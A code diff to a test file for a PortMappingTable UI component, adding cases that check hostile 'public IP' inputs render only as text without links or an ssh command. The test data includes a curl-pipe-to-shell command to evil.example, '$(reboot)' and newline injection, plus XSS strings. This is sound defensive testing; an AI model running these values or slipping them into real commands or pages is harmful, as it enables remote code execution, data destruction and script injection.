@@ -214,19 +214,35 @@ describe("PortMappingTable in unusual cases", () => {
     expect(screen.queryByRole("link")).not.toBeInTheDocument();
   });
 
-  it.each(['evil.example/"><script>', "javascript:alert(1)", "data:text/html,<script>"])(
-    "shows the hostile public IP %j as text, with no script and no link but http(s)",
-    (ip) => {
-      const { container } = render(
-        <PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />,
-      );
-      expect(container.querySelector("script")).toBeNull();
-      for (const link of screen.queryAllByRole("link")) {
-        expect(link.getAttribute("href")).toMatch(/^https?:\/\//);
-      }
-      expect(screen.getAllByText(`ssh -p 9000 root@${ip}`)).toHaveLength(2);
-    },
-  );
+  it.each([
+    'evil.example/"><script>',
+    "javascript:alert(1)",
+    "data:text/html,<script>",
+    "10.99.88.77; curl evil.example | sh",
+    "$(reboot)",
+    "10.99.88.77\nreboot",
+  ])("shows the hostile public IP %j as text only: no command, no link", (ip) => {
+    viewport(true);
+    const { container } = render(
+      <PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />,
+    );
+    expect(container.querySelector("script")).toBeNull();
+    expect(screen.queryByRole("link")).not.toBeInTheDocument();
+    expect(container.querySelector("code")).toBeNull();
+    expect(container.textContent).not.toMatch(/ssh -p/);
+    expect(screen.queryByRole("button", { name: /SSH command/i })).not.toBeInTheDocument();
+    const firstRow = within(screen.getByRole("table")).getAllByRole("row")[1] as HTMLElement;
+    expect(firstRow).toHaveTextContent(`${ip}:9000`, { normalizeWhitespace: false });
+  });
+
+  it.each([
+    ["a host name", "vm-8.example.com"],
+    ["an IPv6 literal with an embedded IPv4", "::ffff:192.0.2.1"],
+  ])("still offers the command for %s", (_, ip) => {
+    viewport(true);
+    render(<PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />);
+    expect(screen.getByText(`ssh -p 9000 root@${ip}`)).toBeVisible();
+  });
 
   it("shows hostile descriptions as text", () => {
     const description = "<script>alert(1)</script><img src=x onerror=alert(1)>";
